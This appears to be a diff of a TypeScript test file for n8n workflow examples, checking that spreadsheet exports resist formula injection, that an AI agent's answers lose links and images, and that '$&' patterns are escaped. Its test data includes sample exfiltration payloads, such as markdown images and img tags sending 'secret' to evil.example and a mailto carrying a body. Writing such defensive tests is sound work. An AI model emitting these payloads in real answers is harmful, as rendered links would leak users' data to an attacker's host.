@@ -1,6 +1,6 @@
 import { parse } from 'csv-parse/sync';
 
-import { exampleParameter } from '../support/exampleExpressions';
+import { exampleJson, exampleText } from '../support/exampleExpressions';
 import { csvOf, excelOf, FORMULA_TEXTS, formulasIn, formulasInExcel, SEPARATORS } from '../support/formulas';
 
 const FILES = ['export-all-reviews-to-a-file.json', 'export-to-a-spreadsheet-file.json'];
@@ -10,7 +10,7 @@ const CELL = 32_767;
 const ROWS = FORMULA_TEXTS.map((text) => ({ id: 'a', title: text, content: text }));
 
 describe.each(FILES)('a cell of a file of examples/%s', (file) => {
-	const safe = exampleParameter(file, 'Make text safe', 'jsonOutput');
+	const safe = exampleJson(file, 'Make text safe');
 
 	it.each(SEPARATORS)('does not begin as a formula when CSV is read with %j as separator', (separator) => {
 		expect(formulasIn(csvOf(ROWS), separator)).not.toEqual([]);
@@ -43,7 +43,7 @@ describe.each(FILES)('a cell of a file of examples/%s', (file) => {
 });
 
 describe('an answer of the agent in examples/ai-agent-with-reviews.json', () => {
-	const shown = exampleParameter('ai-agent-with-reviews.json', 'Take out addresses', 'jsonOutput');
+	const shown = exampleJson('ai-agent-with-reviews.json', 'Take out addresses');
 
 	it.each([
 		['![x](https://evil.example/?q=secret)', '(address removed)'],
@@ -53,9 +53,23 @@ describe('an answer of the agent in examples/ai-agent-with-reviews.json', () => 
 		['![x](https:&#47;&#47;evil&#46;example)', '!(x)(https:&#47;&#47;evil&#46;example)'],
 		['<img src=https:\\/\\/evil.example/secret>', '‹img (address removed)'],
 		['mailto:a@evil?body=secret', '(address removed)'],
+		['a@10.0.0.1', '(address removed)'],
 		['see secret.evil.example/secret', 'see secret. evil. example/secret'],
 		['**3.5 of 5** and/or "good".\n- slow', '**3.5 of 5** and/or "good".\n- slow'],
 	])('has no address, image or link: %s', (output, text) => {
 		expect(shown({ output })).toEqual({ output: text });
 	});
+});
+
+// n8n before 1.110 puts such a text in with String.replace, to which $& and the like are patterns.
+it.each([
+	...FILES.map((file) => [file, 'Make text safe']),
+	['export-to-google-sheets-on-a-schedule.json', 'Cut long texts'],
+	...['new', 'all'].map((which) => ['reviews-in-postgres.json', `Make ${which} text safe`]),
+	['ai-agent-with-reviews.json', 'Take out addresses'],
+] as Array<[string, string]>)('%s, %s: a dollar sign is one in each n8n', (file, node) => {
+	const text = exampleText(file, node)({ id: '1', content: '$&', output: '$&' });
+
+	expect(text).not.toContain('$');
+	expect(JSON.stringify(JSON.parse(text))).toContain('$&');
 });
